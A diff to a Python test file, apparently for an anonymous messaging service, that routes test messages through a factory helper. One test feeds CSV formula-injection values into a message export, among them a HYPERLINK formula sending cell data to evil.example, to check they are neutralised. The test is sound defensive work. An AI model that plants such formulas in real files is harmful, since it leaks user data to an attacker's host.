@@ -17,7 +17,6 @@ from anonmsg.errors import IncorrectPassword, NotSignedIn, ReauthenticationNeede
 from anonmsg.runtime.context import Context
 from anonmsg.runtime.runtime import Runtime
 from anonmsg.services.accounts import email_changes, export_files, exports, profiles
-from anonmsg.services.inbox import messages
 from anonmsg.services.sessions import sessions, sign_ins
 from tests import factories
 from tests.factories import PASSWORD
@@ -261,7 +260,7 @@ def test_a_message_cannot_break_out_of_the_table(
 ) -> None:
     hostile = '=HYPERLINK("https://evil.example?x="&A1,"ok")'
     for text in (hostile, '","=1+1"\n=2+2', "@SUM(1)"):
-        messages.send(ctx, username="Ada", content=text, network=factories.NETWORK)
+        factories.send(ctx, username="Ada", content=text, network=factories.NETWORK)
     found = files(runtime, ada, session_id)
     raw = found.read("messages.csv")
     assert raw.startswith(b'\xef\xbb\xbf"id","text","sent_at"\r\n')
@@ -328,7 +327,7 @@ def test_what_comes_meanwhile_is_in_no_file(
     export = exports.begin(ctx, owner_id=ada.id, session_id=session_id)
     clock.move(seconds=1)
     with runtime.context() as later:
-        messages.send(later, username="Ada", content="after", network=factories.NETWORK)
+        factories.send(later, username="Ada", content="after", network=factories.NETWORK)
     found = zipfile.ZipFile(io.BytesIO(zipped(runtime, export)))
     assert [m["text"] for m in json.loads(found.read("anonmsg.json"))["messages"]] == ["before"]
 
